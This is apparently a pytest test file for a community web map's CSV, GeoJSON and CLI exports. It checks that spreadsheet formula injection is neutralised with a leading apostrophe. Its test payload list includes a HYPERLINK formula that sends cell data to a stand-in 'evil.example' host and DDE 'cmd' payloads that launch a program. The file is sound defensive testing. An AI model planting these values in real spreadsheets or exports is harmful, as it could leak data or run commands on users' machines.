"""Exports are safe to open in a spreadsheet: formula-like text cells start with an apostrophe.

Before the fix, a resident's place named =HYPERLINK(...) reached /export/assets.csv unchanged, and the
CSV's Content-Type said charset twice.
"""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from webmap.core.db import db
from webmap.core.csvsafe import neutralise_cell
from webmap.core.models import Asset

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_get_an_apostrophe(payload):
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Riverside Lunch Club", "", "a=b", "Tea + cake", None, 3.5, -2.1, 7])
def test_other_values_are_left_alone(value):
    assert neutralise_cell(value) == value


def _plant(app, **fields) -> int:
    with app.app_context():
        asset = db.session.scalar(select(Asset).where(Asset.status == "approved").order_by(Asset.id).limit(1))
        for key, value in fields.items():
            setattr(asset, key, value)
        db.session.commit()
        return asset.id


@pytest.mark.parametrize("bom", ["", "?bom=1"])
def test_asset_csv_neutralises_resident_text(sample_app, bom):
    asset_id = _plant(sample_app, name=PAYLOADS[0], description="+44 is our code", address="-1 floor",
                      opening_times="@noon")
    response = sample_app.test_client().get(f"/export/assets.csv{bom}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")))}
    row = rows[str(asset_id)]
    assert row["name"] == "'" + PAYLOADS[0]
    assert (row["description"], row["address"], row["opening_times"]) == ("'+44 is our code", "'-1 floor", "'@noon")
    # Numbers stay numbers, even negative longitudes.
    assert float(row["lon"]) < 0 and not row["lon"].startswith("'")


def test_geojson_keeps_the_exact_text_for_gis(sample_app):
    asset_id = _plant(sample_app, name=PAYLOADS[0])
    features = sample_app.test_client().get("/export/assets.geojson").get_json()["features"]
    assert any(f["properties"]["id"] == asset_id and f["properties"]["name"] == PAYLOADS[0] for f in features)


def test_cli_csv_export_is_neutralised_too(sample_app, tmp_path):
    _plant(sample_app, name="=1+1")
    out = tmp_path / "assets.csv"
    with sample_app.app_context():
        result = sample_app.test_cli_runner().invoke(args=["export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "'=1+1" in out.read_text(encoding="utf-8-sig")
